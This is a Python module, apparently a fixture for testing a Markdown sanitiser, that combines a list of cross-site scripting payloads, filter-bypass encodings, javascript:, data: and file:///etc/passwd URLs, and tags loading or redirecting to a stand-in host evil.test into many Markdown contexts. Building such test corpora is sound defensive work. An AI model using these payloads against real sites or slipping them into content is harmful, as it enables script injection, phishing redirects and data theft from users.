"""Markdown that somebody would write who wants a script to run, a page to be left, or a reader to be seen."""

from __future__ import annotations

from typing import Final

_PAYLOADS: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import 'https://evil.test/x.css'</style>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<base href=https://evil.test/>",
    "<form action=https://evil.test><button>x</button></form>",
    "<object data=https://evil.test></object>",
    "<embed src=https://evil.test>",
    "<input autofocus onfocus=alert(1)>",
    "<video src=https://evil.test/v onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<x onclick=alert(1)>x</x>",
    "</div></main><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "{{7*7}} ${alert(1)} <%= 1 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<scr\0ipt>alert(1)</scr\0ipt>",
)
_ADDRESSES: Final = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.test/x",
    "/\\evil.test/x",
    "\\\\evil.test\\x",
    "/\t/evil.test/x",
    "http://evil.test/x",
    "ftp://evil.test/x",
    "file:///etc/passwd",
    "blob:https://evil.test/1",
    "intent://evil.test",
    "x-evil:1",
)
_FRAMES: Final = (
    "{}",
    "# {}",
    "> {}",
    "- {}",
    "| a |\n|---|\n| {} |",
    "**{}**",
    "`{}`",
    "```\n{}\n```",
    "~~~{}\nx\n~~~",
    "> [!NOTE]\n> {}",
    "[{}](https://example.com)",
    "![{}](https://example.com/x.png)",
)
_LINKS: Final = (
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "![x](<{}>)",
    "<{}>",
    "[x]: {}\n\n[x]",
    "[x](https://example.com '{}')",
    "[![x]({})](https://example.com)",
)

VECTORS: Final = tuple(frame.format(payload) for frame in _FRAMES for payload in _PAYLOADS) + tuple(
    link.format(address) for link in _LINKS for address in _ADDRESSES
)
